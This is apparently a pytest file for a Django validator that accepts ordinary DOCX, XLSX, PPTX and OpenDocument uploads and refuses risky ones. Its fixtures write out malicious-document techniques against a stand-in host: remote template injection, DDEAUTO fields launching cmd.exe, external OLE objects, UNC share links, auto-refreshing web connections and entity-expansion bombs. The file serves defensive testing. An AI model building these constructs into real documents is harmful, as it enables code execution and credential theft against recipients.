"""Office documents may lead elsewhere when somebody clicks; nothing of them runs or loads from outside by itself."""

import tracemalloc
from contextlib import suppress

import pytest
from django.core.exceptions import ValidationError

from partnerships.uploads.office_files import check_archive
from tests.partnerships.checking import check, refusal
from tests.sample_files import archive, odf, of_kind, ooxml

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HREF = 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href'
WEB = "https://evil.example/x"
MACROS = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
OLD_OBJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def relations(kind, target, mode="External"):
    return f'<R><Relationship Id="r1" Type="{TYPE}/{kind}" Target="{target}" TargetMode="{mode}"/></R>'


def related(suffix, kind, target, place="word/_rels/document.xml.rels", mode="External"):
    return ooxml(suffix, **{place: relations(kind, target, mode)})


def words(inside):
    """A DOCX with these words and fields at the top of its pages."""
    return ooxml("docx", **{"word/header1.xml": f"<w>{inside}</w>"})


def content(inside, part="content.xml"):
    return odf("odt", {part: f"<office>{inside}</office>"})


FINE = {
    "a hyperlink": ("docx", related("docx", "hyperlink", WEB)),
    "a link to a file of the network": ("docx", related("docx", "hyperlink", r"\\server\share\plan.docx")),
    "a template of the own disk": ("docx", related("docx", "attachedTemplate", r"file:///C:\Users\ana\Normal.dotm")),
    "a template of a Mac": ("docx", related("docx", "attachedTemplate", "file://localhost/Users/ana/Letter.dotx")),
    "a part of itself": ("docx", related("docx", "image", "media/image1.png", mode="Internal")),
    "another workbook": (
        "xlsx",
        related("xlsx", "externalLinkPath", "Tariffs.xlsx", "xl/externalLinks/_rels/e.xml.rels"),
    ),
    "a picture beside it": ("docx", words('<instrText> INCLUDEPICTURE "media/map.png" </instrText>')),
    "a connection that waits for a click": (
        "xlsx",
        ooxml("xlsx", **{"xl/connections.xml": f"<c><connection name='a'><webPr url='{WEB}'/></connection></c>"}),
    ),
    "a slide to which a pointer leads": (
        "pptx",
        ooxml("pptx", **{"ppt/slides/slide1.xml": "<s><hlinkMouseOver action='ppaction://hlinksldjump'/></s>"}),
    ),
    "a field": ("docx", words("<instrText> PAGE </instrText><fldSimple instr='DATE'/>")),
    "words about DDE": ("docx", words("<t>DDEAUTO is no field here</t>")),
    "an equation of the old kind": ("docx", ooxml("docx", **{"word/embeddings/oleObject1.bin": OLD_OBJECT})),
    "a link in OpenDocument": ("odt", content(f'<text:a xmlns:text="t" {HREF}="{WEB}">x</text:a>')),
    "a picture in it": ("odt", content(f'<draw:image xmlns:draw="d" {HREF}="Pictures/1.png"/>')),
    "a template of Linux": ("odt", content(f'<meta:template xmlns:meta="m" {HREF}="/usr/share/x.ott"/>', "meta.xml")),
    "a slide that is turned": (
        "odp",
        odf("odp", {"content.xml": f'<p:event-listener xmlns:p="p" p:action="next-page" {HREF}="#2"/>'}),
    ),
    "a manifest with the name of its grammar": (
        "odt",
        odf("odt", {"META-INF/manifest.xml": '<!DOCTYPE manifest PUBLIC "a" "Manifest.dtd"><manifest/>'}),
    ),
}
TRICKS = {
    "a page of the web that is taken in": (
        "docx",
        related("docx", "aFChunk", "chunk.html", mode="Internal"),
        "outside",
    ),
    "a field that fetches a picture": (
        "docx",
        words(f'<instrText> INCLUDE</instrText><b/><instrText>PICTURE "{WEB}" \\d</instrText>'),
        "outside",
    ),
    "a field that fetches a text from a share": (
        "docx",
        words(r"<fldSimple instr='INCLUDETEXT \\\\evil\\x.docx'/>"),
        "outside",
    ),
    "a connection that is refreshed on loading": (
        "xlsx",
        ooxml(
            "xlsx",
            **{
                "xl/connections.xml": f"<c><connection name='a' refreshOnLoad='1'><webPr url='{WEB}'/></connection></c>"
            },
        ),
        "outside",
    ),
    "a pointer that starts a program": (
        "pptx",
        ooxml("pptx", **{"ppt/slides/slide1.xml": "<s><hlinkMouseOver action='ppaction://program'/></s>"}),
        "program",
    ),
    "a template from the web": (
        "docx",
        related("docx", "attachedTemplate", WEB, "word/_rels/settings.xml.rels"),
        "outside",
    ),
    "a template from a share": ("docx", related("docx", "attachedTemplate", r"\\evil\share\x.dotm"), "outside"),
    "a share as an address": ("docx", related("docx", "attachedTemplate", "file://evil/share/x.dotm"), "outside"),
    "a share in an address of the disk": (
        "docx",
        related("docx", "attachedTemplate", "file:///%5C%5Cevil/x.dotm"),
        "outside",
    ),
    "an object from the web": ("docx", related("docx", "oleObject", WEB), "outside"),
    "an object from the disk": (
        "xlsx",
        related("xlsx", "oleObject", r"C:\x.exe", "xl/_rels/workbook.xml.rels"),
        "outside",
    ),
    "a picture from the web": ("docx", related("docx", "image", WEB), "outside"),
    "a frame": ("docx", related("docx", "frame", WEB), "outside"),
    "a part of a text from elsewhere": ("docx", related("docx", "subDocument", "other.docx"), "outside"),
    "a film from the web": ("pptx", related("pptx", "video", WEB, "ppt/slides/_rels/slide1.xml.rels"), "outside"),
    "relationships in capitals": (
        "docx",
        related("docx", "oleObject", WEB, "WORD/_RELS/DOCUMENT.XML.RELS", "EXTERNAL"),
        "outside",
    ),
    "relationships in another encoding": (
        "docx",
        ooxml("docx", **{"word/_rels/a.rels": relations("oleObject", WEB).encode("utf-16")}),
        "outside",
    ),
    "those of an embedded workbook": (
        "pptx",
        ooxml("pptx", **{"ppt/embeddings/a.xlsx": related("xlsx", "oleObject", WEB)}),
        "outside",
    ),
    "a field that starts a program": (
        "docx",
        words("<instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</instrText>"),
        "program",
    ),
    "the same in pieces": ("docx", words("<instrText> DD</instrText><b/><instrText>EAUTO cmd</instrText>"), "program"),
    "the same as one field": ("docx", words("<fldSimple instr='DDE cmd'/>"), "program"),
    "a link that starts a program": (
        "xlsx",
        ooxml("xlsx", **{"xl/externalLinks/externalLink1.xml": "<x><ddeLink ddeService='cmd'/></x>"}),
        "program",
    ),
    "a packed file": (
        "docx",
        ooxml("docx", **{"word/embeddings/o.bin": OLD_OBJECT + "\x01Ole10Native".encode("utf-16-le")}),
        "program",
    ),
    "macros in an old object": (
        "docx",
        ooxml("docx", **{"word/embeddings/o.bin": OLD_OBJECT + "_VBA_PROJECT".encode("utf-16-le")}),
        "macros",
    ),
    "macros in another encoding": (
        "docx",
        archive({"[Content_Types].xml": MACROS.encode("utf-16"), "word/document.xml": "<d/>"}),
        "macros",
    ),
    "entities that grow": (
        "docx",
        ooxml("docx", **{"word/_rels/a.rels": '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><r>&b;</r>'}),
        "bomb",
    ),
    "relationships that cannot be read": ("docx", ooxml("docx", **{"word/_rels/a.rels": "<Relationships><"}), "broken"),
    "an object from the web in OpenDocument": (
        "odt",
        content(f'<draw:object xmlns:draw="d" {HREF}="{WEB}"/>'),
        "outside",
    ),
    "an object beside it": ("odt", content(f'<draw:object-ole xmlns:draw="d" {HREF}="../x.ods"/>'), "outside"),
    "a picture from the web in it": ("odt", content(f'<draw:image xmlns:draw="d" {HREF}="{WEB}"/>'), "outside"),
    "a text from the web in it": ("odt", content(f'<text:section-source xmlns:text="t" {HREF}="{WEB}"/>'), "outside"),
    "a template from the web in it": (
        "odt",
        content(f'<meta:template xmlns:meta="m" {HREF}="{WEB}"/>', "meta.xml"),
        "outside",
    ),
    "a macro on opening": (
        "odt",
        content('<script:event-listener xmlns:script="s" script:event-name="dom:load"/>'),
        "macros",
    ),
    "a script in the text": (
        "odt",
        content('<text:script xmlns:text="t" xmlns:script="s" script:language="JavaScript"/>'),
        "macros",
    ),
    "a slide that starts a program": (
        "odp",
        odf("odp", {"content.xml": f'<p:event-listener xmlns:p="p" p:action="execute" {HREF}="x.exe"/>'}),
        "program",
    ),
    "a DDE link in it": ("ods", odf("ods", {"content.xml": '<o:dde-source xmlns:o="o"/>'}), "program"),
}


@pytest.mark.parametrize("name", FINE)
def test_what_people_really_have_in_documents_is_taken(name):
    suffix, document = FINE[name]
    assert check(f"report.{suffix}", document).content == document


@pytest.mark.parametrize("name", TRICKS)
def test_no_trick_is_taken(name):
    suffix, document, code = TRICKS[name]
    assert refusal(f"report.{suffix}", document) == code


def test_the_refusal_says_which_link():
    with pytest.raises(ValidationError, match="loads something from outside when it is opened: https://evil"):
        check("report.docx", related("docx", "attachedTemplate", WEB))


@pytest.mark.parametrize(
    "part",
    [
        b"<w>" + b"<a>" * 600_000,
        b"<w>" + b"<instrText>PAGE</instrText>" * 150_000 + b"</w>",
        b"<w><instrText>" + b"P" * 30_000_000 + b"</instrText></w>",
        bytes(range(256)) * 150_000,
    ],
    ids=["elements in elements", "many fields", "one long field", "no XML"],
)
def test_a_large_part_is_read_in_small_pieces(part, monkeypatch):
    monkeypatch.setattr("partnerships.uploads.office_files.MOST_RATIO", 100_000)
    document = ooxml("docx", **{"word/header1.xml": part})
    del part
    tracemalloc.start()
    with suppress(ValidationError):
        check_archive(document)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5_000_000


def test_more_elements_than_anybody_writes_are_refused(monkeypatch):
    monkeypatch.setattr("partnerships.uploads.office_files.MOST_ELEMENTS", 1000)
    assert refusal("report.docx", words("<t/>" * 1001)) == "bomb"


def test_every_kind_still_stands():
    assert all(check(f"a.{suffix}", of_kind(suffix)) for suffix in ("docx", "xlsx", "pptx", "odt", "ods", "odp"))
